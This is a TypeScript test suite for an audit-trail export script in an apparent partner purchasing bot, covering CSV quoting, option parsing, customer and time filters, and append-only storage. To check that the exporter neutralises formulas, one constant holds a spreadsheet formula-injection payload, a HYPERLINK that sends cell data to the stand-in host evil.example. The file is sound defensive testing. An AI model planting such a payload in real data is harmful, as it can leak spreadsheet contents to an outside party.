// The audit trail and its export: a purchase and two refusals over HTTP, then `scripts/audit.ts` run as
// a child process (and once as `npm run -s audit`) against that DATA_DIR, in CSV and JSON.
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import path from 'node:path';
import { promisify } from 'node:util';
import { demoAgents, demoCustomers, demoPartners } from '../../src/store/demoIds';
import { csvCell, parseOptions, UsageError } from '../../scripts/audit';
import {
  Conversation,
  driveToReview,
  makeDataDir,
  orderNumbersOf,
  removeDataDir,
  startTestBot,
  transcript,
  type TestBot,
} from '../e2e/http';

const run = promisify(execFile);
const root = path.resolve(__dirname, '../..');

/** A customer name a spreadsheet would run as a formula, with a quote and a comma for good measure. */
const FORMULA_NAME = '=HYPERLINK("https://evil.example/?x="&A1,"Fourth, Coffee")';

/** RFC 4180 parsing, independent of the exporter: fields, quotes doubled inside quoted fields, CRLF rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field), rows.push(row), (row = []), (field = ''), i++;
    } else field += c;
  }
  assert.equal(quoted, false, 'the CSV has no unterminated quoted field');
  assert.equal(field === '' && row.length === 0, true, 'the CSV ends with CRLF');
  return rows;
}

describe('scripts/audit: CSV cells and options', () => {
  it('quotes what needs quoting and doubles quotes (RFC 4180)', () => {
    assert.equal(csvCell('plain text'), 'plain text', 'plain text stays');
    assert.equal(csvCell('a,b'), '"a,b"', 'a comma is quoted');
    assert.equal(csvCell('say "hi"'), '"say ""hi"""', 'quotes are doubled inside quotes');
    assert.equal(csvCell('line 1\nline 2'), '"line 1\nline 2"', 'a line break is quoted');
    assert.equal(csvCell('cr\rinside'), '"cr\rinside"', 'a carriage return is quoted');
    assert.equal(csvCell(42), '42', 'a number is written as is');
    assert.equal(csvCell(null), '', 'null is an empty cell');
    assert.equal(csvCell(undefined), '', 'undefined is an empty cell');
    assert.equal(csvCell('شركة 🚀 ${x} <b>'), 'شركة 🚀 ${x} <b>', 'RTL text, emoji, ${...} and HTML stay literal');
  });

  it('guards every formula start (= + - @ tab CR, and the full-width forms) with a leading quote', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']) {
      const cell = csvCell(`${start}1+1`);
      assert.equal(cell, `'${start}1+1`, `a cell starting with ${JSON.stringify(start)} is prefixed with '`);
    }
    assert.equal(csvCell('\r=1'), `"'\r=1"`, 'a leading carriage return is guarded and quoted');
    assert.equal(csvCell('=SUM(A1,A2)'), `"'=SUM(A1,A2)"`, 'guarded first, then quoted for the comma');
    assert.equal(csvCell('a=1'), 'a=1', 'an = later in the text is harmless');
  });

  it('requires --since, reads dates and refuses what it does not know', () => {
    assert.deepEqual(
      parseOptions(['--since', '2026-01-01']),
      { since: '2026-01-01T00:00:00.000Z', until: undefined, customer: undefined, format: 'csv', out: undefined },
      'a date is UTC midnight; CSV is the default',
    );
    assert.equal(parseOptions(['--since', '2026-03-04T05:06:07+01:00', '--format', 'json']).since, '2026-03-04T04:06:07.000Z', 'an ISO timestamp is normalised to UTC');
    for (const [argv, why] of [
      [[], /--since is required/],
      [['--since', 'yesterday'], /--since must be a date/],
      [['--since', '2026-13-45'], /--since must be a date/],
      [['--since', '2026-01-01', '--format', 'xlsx'], /--format must be csv or json/],
      [['--since', '2026-01-01', '--customr', 'x'], /Unknown option '--customr'/],
      [['--since', '2026-01-01', 'extra'], /positional/i],
    ] as const) {
      assert.throws(() => parseOptions([...argv]), (e: Error) => e instanceof UsageError && why.test(e.message), `${argv.join(' ')} is a usage error matching ${why}`);
    }
  });
});

describe('scripts/audit: the export after a purchase', function () {
  let dataDir: string;
  let t: TestBot;
  let cartId: string;
  let order: string;
  let annaConversation: string;

  before(async function () {
    dataDir = makeDataDir();
    t = await startTestBot(dataDir);
    t.bot.partnerCenter!.db.prepare('UPDATE customers SET company_name = ? WHERE id = ?').run(FORMULA_NAME, demoCustomers.fourthCoffee);

    const anna = new Conversation(t.baseUrl, 'demo-anna');
    annaConversation = anna.id;
    ({ cartId } = await driveToReview(anna, '2'));
    [order] = orderNumbersOf(await anna.click('Buy')) as [string];
    assert.ok(order, 'Anna bought the cart');
    // Two refusals: Bea's role (R2), and a customer whose agreement is not confirmed (R6).
    const bea = new Conversation(t.baseUrl, 'demo-bea');
    assert.match(transcript(await bea.say('buy')), /Your role \(Billing admin\) may not buy/, 'Bea is refused');
    await anna.say('buy for fourthcoffee');
    const said = transcript(anna.last);
    // The refusal is a line of its own; the customer list also names the reason, after the customer's domain.
    const refusedR6 = /^⛔ .*acceptance of the Microsoft Customer Agreement is not confirmed/m;
    assert.match(said, new RegExp(`${refusedR6.source}|Which customer`, 'm'), `Fourth Coffee is refused or offered:\n${said}`);
    if (!refusedR6.test(said)) await anna.click(/HYPERLINK/);
    assert.match(transcript(anna.last), refusedR6, `Fourth Coffee is refused (R6):\n${transcript(anna.last)}`);
  });

  after(async function () {
    await t?.stop();
    removeDataDir(dataDir);
  });

  /** Runs the exporter as its own process against the test DATA_DIR, with the bot still running. */
  async function exportAudit(args: string[]): Promise<string> {
    const { stdout, stderr } = await run(process.execPath, ['--import', 'tsx', 'scripts/audit.ts', ...args], {
      cwd: root,
      env: { PATH: process.env.PATH ?? '', DATA_DIR: dataDir },
      maxBuffer: 64 * 1024 * 1024,
    });
    assert.match(stderr, /\d+ audit events? exported/, `the exporter reports what it did: ${stderr}`);
    return stdout;
  }

  it('exports every attempt, quote, checkout, order and refusal as CSV with who, where and which cart', async function () {
    const rows = parseCsv(await exportAudit(['--since', '2026-01-01']));
    const [header, ...data] = rows;
    assert.deepEqual(
      header,
      ['seq', 'at', 'type', 'code', 'partner_id', 'agent_id', 'agent_name', 'customer_id', 'customer_name', 'conversation_id', 'cart_id', 'idempotency_key', 'detail'],
      'the header names the columns',
    );
    assert.ok(data.every((r) => r.length === header!.length), 'every row has every column');
    const events = data.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
    assert.equal(events.length, t.bot.store.audit.list().length, 'every event of the trail is exported');
    const ofType = (type: string) => events.filter((e) => e.type === type);

    for (const type of ['cart.opened', 'quote', 'checkout.attempt', 'checkout.completed', 'order.created']) {
      const found = ofType(type).filter((e) => e.cart_id === cartId);
      assert.ok(found.length > 0, `the export has a ${type} event for the cart`);
      for (const e of found) {
        assert.ok(!Number.isNaN(Date.parse(e.at!)), `${type}: has a time (${e.at})`);
        assert.equal(e.agent_id, demoAgents.anna, `${type}: names the agent`);
        assert.equal(e.agent_name, 'Anna de Vries', `${type}: with the agent's name`);
        assert.equal(e.partner_id, demoPartners.contosoNl, `${type}: names the partner`);
        assert.equal(e.customer_id, demoCustomers.contosoRetail, `${type}: names the customer`);
        assert.equal(e.customer_name, 'Contoso Retail B.V.', `${type}: with the customer's name`);
        assert.equal(e.conversation_id, annaConversation, `${type}: names the conversation`);
        assert.doesNotThrow(() => JSON.parse(e.detail!), `${type}: the detail is JSON`);
      }
    }
    for (const type of ['quote', 'checkout.attempt', 'checkout.completed', 'order.created']) {
      assert.ok(ofType(type).every((e) => e.cart_id !== cartId || e.idempotency_key === cartId), `${type}: carries the idempotency key (the cart id)`);
    }
    const placed = ofType('order.created').find((e) => e.cart_id === cartId)!;
    assert.equal(JSON.parse(placed.detail!).orderId, order, 'the order event names the order number the agent was shown');
    const quote = ofType('quote').find((e) => e.cart_id === cartId)!;
    const quoted = JSON.parse(quote.detail!) as { totalMinor: number; currency: string; lines: { quantity: number }[] };
    assert.equal(quoted.currency, 'EUR', 'the quote records its currency');
    assert.ok(quoted.totalMinor > 0 && quoted.lines[0]!.quantity === 2, `the quote records the lines and the total: ${quote.detail}`);

    const r2 = events.find((e) => e.code === 'R2_ROLE');
    assert.ok(r2, 'the R2 refusal is exported with its rule code');
    assert.equal(r2.type, 'purchase.start.refused', 'as a refused purchase start');
    assert.equal(r2.agent_id, demoAgents.bea, 'naming Bea');
    const r6 = events.find((e) => e.code === 'R6_AGREEMENT');
    assert.ok(r6, 'the R6 refusal is exported with its rule code');
    assert.equal(r6.customer_id, demoCustomers.fourthCoffee, 'naming the customer');
    assert.equal(r6.customer_name, `'${FORMULA_NAME}`, 'a customer name that is a formula is exported with a leading quote, so a spreadsheet shows it as text');
    assert.ok(data.flat().every((cell) => !/^[=+\-@\t\r]/.test(cell)), 'no cell of the export starts like a formula');
  });

  it('exports the same events as JSON, filters by customer (id or domain) and by time', async function () {
    const csvCount = parseCsv(await exportAudit(['--since', '2026-01-01'])).length - 1;
    const json = JSON.parse(await exportAudit(['--since', '2026-01-01', '--format', 'json'])) as Record<string, unknown>[];
    assert.equal(json.length, csvCount, 'JSON and CSV export the same events');
    const r6 = json.find((e) => e.code === 'R6_AGREEMENT')!;
    assert.equal(r6.customerName, FORMULA_NAME, 'JSON keeps the name exactly (no spreadsheet guard needed)');
    assert.equal(typeof r6.detail, 'object', 'the detail is an object in JSON');

    const contoso = JSON.parse(await exportAudit(['--since', '2026-01-01', '--format', 'json', '--customer', demoCustomers.contosoRetail])) as { customerId: string }[];
    assert.ok(contoso.length > 0 && contoso.every((e) => e.customerId === demoCustomers.contosoRetail), 'only Contoso Retail\'s events, by id');
    const byDomain = JSON.parse(await exportAudit(['--since', '2026-01-01', '--format', 'json', '--customer', 'FourthCoffee.onmicrosoft.com'])) as { customerId: string }[];
    assert.ok(byDomain.length > 0 && byDomain.every((e) => e.customerId === demoCustomers.fourthCoffee), 'only Fourth Coffee\'s events, by domain');

    const future = await exportAudit(['--since', '2999-01-01', '--format', 'json']);
    assert.deepEqual(JSON.parse(future), [], 'nothing since the far future');
    const past = await exportAudit(['--since', '2000-01-01', '--until', '2000-01-02']);
    assert.equal(parseCsv(past).length, 1, 'only the header for a day with no events');
  });

  it('runs as `npm run -s audit`, writes a file with --out, and fails clearly without a database or with bad options', async function () {
    const { stdout } = await run('npm', ['run', '-s', 'audit', '--', '--since', '2026-01-01', '--format', 'json', '--customer', demoCustomers.contosoRetail], {
      cwd: root,
      env: { ...process.env, DATA_DIR: dataDir },
      maxBuffer: 64 * 1024 * 1024,
    });
    assert.ok((JSON.parse(stdout) as unknown[]).length > 0, 'npm run -s audit prints the JSON export only');

    const out = path.join(dataDir, 'audit.csv');
    await exportAudit(['--since', '2026-01-01', '--out', out]);
    const { readFileSync } = await import('node:fs');
    assert.ok(parseCsv(readFileSync(out, 'utf8')).length > 1, '--out writes the CSV to the file');

    await assert.rejects(
      run(process.execPath, ['--import', 'tsx', 'scripts/audit.ts', '--since', '2026-01-01'], { cwd: root, env: { PATH: process.env.PATH ?? '', DATA_DIR: path.join(dataDir, 'nowhere') } }),
      (e: { code: number; stderr: string }) => e.code === 1 && /Cannot open the database .*nowhere.*Is DATA_DIR right\?/.test(e.stderr),
      'a missing database exits 1 and says where it looked',
    );
    await assert.rejects(
      run(process.execPath, ['--import', 'tsx', 'scripts/audit.ts', '--format', 'csv'], { cwd: root, env: { PATH: process.env.PATH ?? '', DATA_DIR: dataDir } }),
      (e: { code: number; stderr: string }) => e.code === 2 && /--since is required[\s\S]*Usage: npm run -s audit/.test(e.stderr),
      'a missing --since exits 2 with the usage',
    );
  });

  it('keeps the trail append-only: an event cannot be changed or deleted', function () {
    const db = t.bot.store.db;
    assert.throws(() => db.prepare("UPDATE audit_events SET type = 'forged'").run(), /append-only/, 'no update');
    assert.throws(() => db.prepare('DELETE FROM audit_events').run(), /append-only/, 'no delete');
  });
});
